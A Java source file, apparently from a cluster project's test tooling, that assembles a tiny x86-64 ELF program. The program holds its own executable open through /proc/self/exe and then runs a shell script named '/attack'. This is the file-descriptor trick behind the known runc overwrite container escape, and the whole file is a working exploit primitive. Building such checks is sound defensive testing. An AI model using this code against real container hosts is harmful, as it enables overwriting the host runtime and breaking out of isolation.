package io.skiff.cluster;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;

/**
 * Builds a program for x86-64 that stands in for the dynamic loader, so it needs no library. It opens the executable of
 * its own process as descriptor 3, and becomes a shell that runs {@value #SCRIPT}. A process cannot write the file that
 * it executes, but it can write one that it only holds open.
 */
final class ExecutableHolder {

    static final String SCRIPT = "/attack";

    private static final int HEADERS = 64 + 56;
    private static final int CODE_WIDTH = 52;

    private static final String CODE = """
            b802000000 488d3d25000000 31f6 31d2 0f05            open("/proc/self/exe", O_RDONLY)
            31d2 52 488d052c000000 50 488d3d1c000000 57 4889e6  argv: "/bin/sh", SCRIPT
            b83b000000 0f05 0f0b                                execve("/bin/sh", argv, none)
            """;

    private ExecutableHolder() {}

    /** Writes an ELF file: its two headers, then code and the two names, all in one readable and executable segment. */
    static byte[] program() {
        var content = content();
        int size = HEADERS + content.length;
        var file = ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
        // a 64-bit shared object, which runs at any address; its entry is the first byte of the code
        file.put(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0});
        file.putShort((short) 3).putShort((short) 62).putInt(1).putLong(HEADERS);
        file.putLong(64).putLong(0).putInt(0).putShort((short) 64);
        file.putShort((short) 56).putShort((short) 1);
        file.putShort((short) 64).putShort((short) 0).putShort((short) 0);
        file.putInt(1).putInt(5).putLong(0).putLong(0).putLong(0);
        file.putLong(size).putLong(size).putLong(4096);
        return file.put(content).array();
    }

    private static byte[] content() {
        var hex = new StringBuilder();
        CODE.lines().map(line -> line.substring(0, CODE_WIDTH).replace(" ", "")).forEach(hex::append);
        var code = HexFormat.of().parseHex(hex);
        var names = String.join("\0", "/proc/self/exe", "/bin/sh", SCRIPT, "").getBytes(StandardCharsets.US_ASCII);
        return ByteBuffer.allocate(code.length + names.length)
                .put(code)
                .put(names)
                .array();
    }
}
